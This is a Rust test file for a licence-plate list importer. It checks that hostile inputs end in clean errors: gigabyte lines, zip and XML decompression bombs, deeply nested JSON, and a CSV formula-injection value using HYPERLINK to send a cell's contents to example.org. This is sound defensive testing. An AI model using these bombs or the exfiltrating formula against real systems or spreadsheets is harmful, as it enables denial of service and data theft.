//! Files that are broken, or made to do harm, end in a clear error or do none.

use std::fs;
use std::io::{self, BufReader, Cursor, Read};
use std::time::Instant;

use varco::lists::{
    Encoding, ImportError, ImportOptions, Rejected, WorkbookError, import, import_each,
};

use crate::csv::{text, varco_lists};
use crate::formats::{imported, options};
use crate::workbook::{frame, packed, shared, workbook};

const GIGABYTE: u64 = 1 << 30;

/// A text between two others, of which the one in the middle is a gigabyte without a line end.
fn around_a_long_line(before: &str, after: &str) -> impl io::BufRead {
    let middle = io::repeat(b'x').take(GIGABYTE);
    let (before, after) = (Cursor::new(before.to_owned()), Cursor::new(after.to_owned()));
    BufReader::with_capacity(1 << 18, before.chain(middle).chain(after))
}

#[test]
fn a_line_of_a_gigabyte_costs_one_row_and_no_memory() {
    let started = Instant::now();
    let fixed = "[[fields]]\nname = \"plate\"\nstart = 1\nwidth = 7\n";
    for (before, after, format) in [
        ("plate\nEF456GH\n", "\nAB123CD\n", ""),
        ("EF456GH\n", "\nAB123CD\n", fixed),
        ("{\"plate\":\"EF456GH\"}\n", "\n{\"plate\":\"AB123CD\"}\n", ""),
    ] {
        let found = import(around_a_long_line(before, after), &options(format)).unwrap();
        assert_eq!((found.report.kept, found.report.rejected_count), (2, 1), "{format}");
        let said = found.report.rejected[0].to_string();
        assert!(said.contains("longer than 65536 bytes"), "{said}");
    }
    let error = import(around_a_long_line("", ""), &ImportOptions::default()).unwrap_err();
    assert!(matches!(error, ImportError::Header { .. }), "{error}");
    println!("four gigabyte lines in {:.1} s", started.elapsed().as_secs_f64());
}

fn book_error(parts: &[(String, String)]) -> WorkbookError {
    let book = packed(parts);
    match import(Cursor::new(book), &ImportOptions::default()) {
        Err(ImportError::Workbook(error)) => error,
        other => panic!("{other:?}"),
    }
}

fn with_parts(more: &[(&str, String)]) -> Vec<(String, String)> {
    let mut parts = frame(
        "<sheet name=\"A\" sheetId=\"1\" r:id=\"rId1\"/>",
        "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet\" Target=\"worksheets/sheet1.xml\"/>",
    );
    parts.extend(more.iter().map(|(name, xml)| ((*name).to_owned(), xml.clone())));
    parts
}

#[test]
fn a_zip_bomb_is_not_unpacked_into_memory() {
    // Texts: 130 MiB in some 130 KiB.
    let bomb = format!("<sst>{}</sst>", "<si><t>AAAAAAAA</t></si>".repeat(130 * 1024 * 1024 / 24));
    let error = book_error(&with_parts(&[("xl/sharedStrings.xml", bomb)]));
    assert!(error.to_string().contains("bigger than 128 MiB"), "{error}");

    let bomb = format!("<styleSheet>{}</styleSheet>", "<xf/>".repeat(1024 * 1024));
    let error = book_error(&with_parts(&[("xl/STYLES.xml", bomb)]));
    assert!(matches!(error, WorkbookError::TooBig { .. }), "{error}");

    // One text of a megabyte, which no cell can hold.
    let bomb = format!("<worksheet><sheetData><row><c><v>{}", " ".repeat(1024 * 1024));
    let error = book_error(&with_parts(&[("xl/worksheets/sheet1.xml", bomb)]));
    assert!(matches!(error, WorkbookError::Hostile { .. }), "{error}");

    // Room for 10^18 texts.
    let bomb = "<sst xmlns=\"x\" uniqueCount=\"1000000000000000000\"><si><t>a</t></si></sst>";
    let error = book_error(&with_parts(&[("xl/sharedStrings.xml", bomb.to_owned())]));
    assert!(matches!(error, WorkbookError::Hostile { .. }), "{error}");
    let bomb = bomb.replace("1000000000000000000", "99999999999999999999999");
    let error = book_error(&with_parts(&[("xl/sharedStrings.xml", bomb)]));
    assert!(matches!(error, WorkbookError::Hostile { .. }), "{error}");

    let many: Vec<(String, String)> =
        (0..10_001).map(|n| (format!("xl/part{n}.xml"), String::new())).collect();
    assert!(matches!(book_error(&many), WorkbookError::Hostile { .. }));
}

#[test]
fn a_sheet_of_rows_without_end_is_too_big() {
    // 1.1 GiB of empty rows in a megabyte.
    let bomb = format!("<worksheet><sheetData>{}", "<row></row>".repeat(1100 * 1024 * 1024 / 11));
    let error = book_error(&with_parts(&[("xl/worksheets/sheet1.xml", bomb)]));
    assert!(error.to_string().contains("1024 MiB"), "{error}");
}

#[test]
fn a_cell_beyond_every_sheet_is_an_error_that_names_it() {
    for (sheet, named) in [
        ("<sheetData><row><c r=\"AAAAAAAAAAAA1\"><v>1</v></c></row>", "AAAAAAAAAAAA1"),
        ("<sheetData><row r=\"99999999999999\"><c><v>1</v></c></row>", "99999999999999"),
        ("<dimension ref=\"B2:A1\"/><sheetData>", "B2:A1"),
    ] {
        let sheet = format!("<worksheet>{sheet}</sheetData></worksheet>");
        let error = book_error(&with_parts(&[("xl/worksheets/sheet1.xml", sheet)]));
        assert!(matches!(error, WorkbookError::Reference { .. }), "{error}");
        assert!(error.to_string().contains(named), "{error}");
    }
}

#[test]
fn a_broken_workbook_is_an_error_wherever_it_breaks() {
    let book = workbook(&[("A", vec![vec![shared("plate")], vec![shared("AB123CD")]])]);
    for length in (4..book.len()).step_by(7) {
        let cut = book.get(..length).unwrap();
        assert!(import(Cursor::new(cut), &ImportOptions::default()).is_err(), "{length}");
    }
}

#[test]
fn text_of_two_encodings_is_read_told_and_refused_on_request() {
    let content = b"targa;motivo\nAB123CD;citt\xc3\xa0\nEF456GH;citt\xe0\n";
    let found = imported(content, "");
    let reasons: Vec<_> = found.entries.iter().filter_map(|e| e.reason.as_deref()).collect();
    assert_eq!(reasons, ["città", "città"]);
    assert_eq!(found.report.encoding, Encoding::Windows1252 { line: 3 });
    let found = imported(content, "encoding = \"utf-8\"");
    assert_eq!((found.report.kept, found.report.rejected_count), (1, 1));
    assert!(found.report.rejected[0].reason.contains("not UTF-8"), "{:?}", found.report);
    let found = imported(content, "encoding = \"latin-1\"");
    assert_eq!(found.entries[0].reason.as_deref(), Some("cittÃ\u{a0}"), "as it was asked for");
}

#[test]
fn a_key_that_comes_twice_is_refused() {
    let content = "{\"plate\":\"AB123CD\",\"plate\":\"EF456GH\"}\n\
        {\"plate\":\"AB123CD\",\"targa\":\"EF456GH\"}\n\
        {\"plate\":\"AB123CD\",\"make\":\"Fiat\",\"vehicle\":{\"make\":\"Opel\"}}\n\
        {\"plate\":\"GH789IL\"}\n";
    let found = imported(content, "");
    assert_eq!((found.report.kept, found.report.rejected_count), (1, 3));
    for rejected in &found.report.rejected {
        assert!(rejected.reason.contains("comes twice"), "{rejected}");
    }
}

#[test]
fn odd_json_is_refused_row_by_row() {
    let deep = format!("{{\"plate\":{}1{}}}", "[".repeat(30_000), "]".repeat(30_000));
    let content = format!(
        "{{\"plate\":\"AB123CD\"}}\n{deep}\n{{\"plate\":{{}}}}\n{{\"plate\":true}}\n[]\n\"x\"\n\
         {{\"plate\":\"EF456GH\"}} more\n{{\"plate\":\"\\ud800\"}}\n{{\"plate\"\n"
    );
    let found = imported(content, "");
    assert_eq!((found.report.kept, found.report.rejected_count), (1, 8));
}

#[test]
fn days_out_of_range_cost_their_row() {
    let content = "plate,valid_to\nAB123CD,9999-12-31\nEF456GH,10000-01-01\nGH789IL,0026-11-21\n\
        LM012NP,2026-02-30\nPR345ST,99999999\nSS678TT,-2026-01-01\nVV901ZZ,1899-12-31\n";
    let found = imported(content, "");
    assert_eq!((found.report.kept, found.report.rejected_count), (1, 6));
    let all: &[Rejected] = &found.report.rejected;
    assert!(all[1].reason.contains("the year 26"), "{}", all[1]);
}

#[test]
fn formulas_do_not_reach_a_spreadsheet() {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("list.csv");
    let content = "plate,reason,reference,make,model,colour\n\
        AB123CD,\"=HYPERLINK(\"\"http://example.org/?\"\"&A1,\"\"ok\"\")\",+1,-1,@x,white\n";
    fs::write(&file, content).unwrap();
    let output = varco_lists(&["show", "--csv"], &file);
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    let said = text(&output.stdout);
    let (_, row) = said.split_once('\n').unwrap();
    assert_eq!(
        row,
        "AB123CD,,\"'=HYPERLINK(\"\"http://example.org/?\"\"&A1,\"\"ok\"\")\",'+1,,,'-1,'@x,white\n"
    );
    // What was written is a list again.
    fs::write(&file, said).unwrap();
    assert_eq!(varco_lists(&["check"], &file).status.code(), Some(0));
}

#[test]
fn one_plate_a_million_times_does_not_take_forever() {
    let row =
        |n: u64| if n == 0 { "plate,reference\n".to_owned() } else { format!("AB123CD,{n}\n") };
    let content: String = (0..300_000).map(row).collect();
    let started = Instant::now();
    let options = ImportOptions { max_details: 3, ..ImportOptions::default() };
    let report = import_each(Cursor::new(content), &options, drop).unwrap();
    assert_eq!((report.kept, report.repeated_count, report.repeated.len()), (299_999, 299_998, 3));
    assert_eq!((report.repeated[0].line, report.repeated[0].first_line), (3, 2));
    assert!(started.elapsed().as_secs() < 60, "{:?}", started.elapsed());
}
